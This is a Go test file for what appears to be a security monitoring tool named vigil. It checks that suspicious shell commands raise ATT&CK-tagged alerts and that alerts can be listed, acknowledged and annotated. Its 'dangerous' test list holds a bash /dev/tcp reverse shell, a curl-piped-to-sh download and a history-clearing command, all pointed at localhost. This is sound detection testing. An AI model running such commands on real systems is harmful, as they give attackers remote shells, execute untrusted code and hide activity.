package main

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/httpapi"
	"github.com/vigil-sec/vigil/internal/livetest"
	"github.com/vigil-sec/vigil/internal/rules/eventmix"
	"github.com/vigil-sec/vigil/internal/transport"
)

// dangerous are the command lines, as a shell is given them.
var dangerous = []struct {
	name string
	args []string
}{
	{"reverse shell", []string{"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"}},
	{"download piped into a shell", []string{"sh", "-c", "curl -s http://127.0.0.1:1/x | sh"}},
	{"history cleared", []string{"bash", "-c", "history -c"}},
}

// alertLine is what a line of `vigil alerts --format json` must hold.
type alertLine struct {
	ID   string `json:"id"`
	Rule struct {
		ID, Name, Level string
	} `json:"rule"`
	Status string `json:"status"`
	Host   struct {
		Name string `json:"name"`
	} `json:"host"`
	Tags      []string  `json:"tags"`
	Count     int       `json:"count"`
	EventIDs  []string  `json:"event_ids"`
	FirstSeen time.Time `json:"first_seen"`
	LastSeen  time.Time `json:"last_seen"`
}

func readAlerts(t *testing.T, args ...string) []alertLine {
	t.Helper()
	out, errs, code := runT(t, append([]string{"alerts", "--format", "json"}, args...)...)
	if code != 0 {
		t.Fatalf("alerts: exit %d %s", code, errs)
	}
	var as []alertLine
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		if l == "" {
			continue
		}
		var a alertLine
		if err := json.Unmarshal([]byte(l), &a); err != nil {
			t.Fatalf("alerts line %q: %v", l, err)
		}
		for _, k := range []string{`"id"`, `"rule"`, `"status"`, `"host"`, `"tags"`, `"count"`, `"event_ids"`, `"first_seen"`, `"last_seen"`} {
			if !strings.Contains(l, k+":") {
				t.Errorf("alerts line lacks %s: %s", k, l)
			}
		}
		as = append(as, a)
	}
	return as
}

// hasAttack reports whether tags hold an ATT&CK technique in Sigma's form.
func hasAttack(tags []string) bool {
	return slices.ContainsFunc(tags, func(s string) bool { return strings.HasPrefix(s, "attack.t") })
}

// alertFor returns the open alert naming event id, if any.
func alertFor(as []alertLine, pred func(a alertLine) bool) (alertLine, bool) {
	for _, a := range as {
		if a.Status == "open" && pred(a) {
			return a, true
		}
	}
	return alertLine{}, false
}

// TestAlertsCommand: events shipped by an agent raise alerts at ingest,
// listed by vigil alerts (JSON and table) and triaged with ack and note.
func TestAlertsCommand(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "data")
	startCommand(t, dir, "server", "--data", dir, "--listen", "127.0.0.1:0")
	out, errs, code := runT(t, "server", "token", "create", "--data", dir)
	if code != 0 {
		t.Fatalf("token create: %d %s", code, errs)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	ep, err := httpapi.Locate{DataDir: dir}.Resolve()
	if err != nil {
		t.Fatal(err)
	}
	id, err := transport.Enroll(context.Background(), ep.URL, lines[len(lines)-1], t.TempDir(), transport.HostFacts{Name: "web1"})
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now().UTC()
	var evs []event.Event
	for i, d := range dangerous {
		e := eventmix.Exec(now.Add(time.Duration(i)*time.Second), "/usr/bin/"+d.args[0], d.args...)
		e.Host = &event.Host{Name: "web1"}
		e.Event.ID = event.NewID(e.Timestamp)
		evs = append(evs, *e)
	}
	if s := shipOne(t, ep.URL, id, 1, evs); s != 200 {
		t.Fatalf("ship: %d", s)
	}
	var as []alertLine
	deadline := time.Now().Add(10 * time.Second)
	for {
		as = readAlerts(t, "--data", dir, "--status", "open")
		missing := 0
		for _, e := range evs {
			if _, ok := alertFor(as, func(a alertLine) bool { return slices.Contains(a.EventIDs, e.Event.ID) }); !ok {
				missing++
			}
		}
		if missing == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d of %d commands without an open alert within 10 s: %+v", missing, len(evs), as)
		}
		time.Sleep(100 * time.Millisecond)
	}
	for _, a := range as {
		if a.Host.Name != "web1" || !hasAttack(a.Tags) || a.Count < 1 || a.Rule.ID == "" || a.Rule.Level == "" || a.FirstSeen.IsZero() {
			t.Errorf("alert %+v lacks host, ATT&CK tag, count, rule or times", a)
		}
	}
	// The alert's events are findable with vigil search.
	out, _, code = runT(t, "search", "--data", dir, "event.id:"+as[0].EventIDs[0], "--format", "json")
	if code != 0 || strings.Count(out, "\n") != 1 {
		t.Errorf("search event.id:%s: exit %d %q", as[0].EventIDs[0], code, out)
	}
	// A re-sent batch raises nothing new.
	if s := shipOne(t, ep.URL, id, 1, evs); s != 200 {
		t.Fatalf("re-ship: %d", s)
	}

	target := as[0].ID
	if _, errs, code := runT(t, "alerts", "ack", target, "--data", dir); code != 0 {
		t.Fatalf("alerts ack: %d %s", code, errs)
	}
	if _, errs, code := runT(t, "alerts", "note", target, "benign:", "backup", "job", "--data", dir); code != 0 {
		t.Fatalf("alerts note: %d %s", code, errs)
	}
	acked := readAlerts(t, "--data", dir, "--status", "acknowledged")
	if len(acked) != 1 || acked[0].ID != target {
		t.Fatalf("acknowledged alerts %+v, want %s", acked, target)
	}
	time.Sleep(300 * time.Millisecond) // let a wrongly re-evaluated batch show up
	if again := readAlerts(t, "--data", dir); len(again) != len(as) {
		t.Errorf("%d alerts after the re-sent batch, want %d", len(again), len(as))
	}
	out, _, code = runT(t, "alerts", "--data", dir)
	if code != 0 || !strings.Contains(out, "LEVEL") || !strings.Contains(out, target) {
		t.Errorf("alerts table: exit %d %q", code, out)
	}
	for _, bad := range [][]string{{"alerts", "--data", dir, "--status", "gone"}, {"alerts", "--data", dir, "--level", "severe"},
		{"alerts", "ack"}, {"alerts", "note", "x"}, {"alerts", "close", "no-such-alert", "--data", dir}} {
		if _, _, code := runT(t, bad...); code == 0 {
			t.Errorf("%v exited 0", bad)
		}
	}
}

// TestUpAlertsEndToEnd is the acceptance test for alerts: with vigil
// up running as root, the dangerous command lines run through a shell raise
// open alerts with ATT&CK tags within 10 s.
func TestUpAlertsEndToEnd(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("vigil up records commands only as root")
	}
	livetest.LockAudit(t)
	dir := filepath.Join(t.TempDir(), "data")
	stdout, _ := startCommand(t, dir, "up", "--data", dir, "--listen", "127.0.0.1:0")
	deadline := time.Now().Add(time.Minute)
	for !strings.Contains(stdout.String(), "local agent collectors:") {
		if time.Now().After(deadline) {
			t.Fatalf("agent did not start: %s", stdout.String())
		}
		time.Sleep(100 * time.Millisecond)
	}
	if !strings.Contains(stdout.String(), "audit") {
		t.Skipf("the audit collector cannot run here:\n%s", stdout.String())
	}
	// Wait until the agent ships exec events.
	for {
		marker := "vigil-alerts-ready-" + time.Now().Format("150405.000")
		_ = exec.Command("/bin/echo", marker).Run()
		time.Sleep(300 * time.Millisecond)
		if out, _, _ := runT(t, "search", "--data", dir, "process.args:"+marker, "--format", "json"); out != "" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("agent ships no exec events")
		}
	}
	// This test binary is vigil itself (vigil up runs in-process), and
	// vigil does not alert on its own children: start each command line
	// from a shell, as a user would. "; true" keeps bash from exec'ing the
	// command in its own place.
	start := time.Now()
	for _, d := range dangerous {
		_ = exec.Command("/bin/bash", "-c", shellQuote(d.args)+"; true").Run()
	}
	var as []alertLine
	for {
		as = readAlerts(t, "--data", dir, "--status", "open")
		var missing []string
		for _, d := range dangerous {
			cmdline := strings.Join(d.args[2:], " ")
			if _, ok := alertFor(as, func(a alertLine) bool { return hasAttack(a.Tags) && ruleFits(a, d.name) }); !ok {
				missing = append(missing, cmdline)
			}
		}
		if len(missing) == 0 {
			break
		}
		if time.Since(start) > 10*time.Second {
			t.Fatalf("no open alert with ATT&CK tags within 10 s for %q; alerts: %+v", missing, as)
		}
		time.Sleep(250 * time.Millisecond)
	}
}

// ruleFits tells which alert stands for which command, by its title.
func ruleFits(a alertLine, name string) bool {
	n := strings.ToLower(a.Rule.Name)
	switch name {
	case "reverse shell":
		return strings.Contains(n, "reverse shell") || strings.Contains(n, "/dev/tcp")
	case "download piped into a shell":
		return strings.Contains(n, "pipe") || strings.Contains(n, "download")
	default:
		return strings.Contains(n, "history")
	}
}

func shellQuote(args []string) string {
	q := make([]string, len(args))
	for i, a := range args {
		q[i] = "'" + strings.ReplaceAll(a, "'", `'\''`) + "'"
	}
	return strings.Join(q, " ")
}
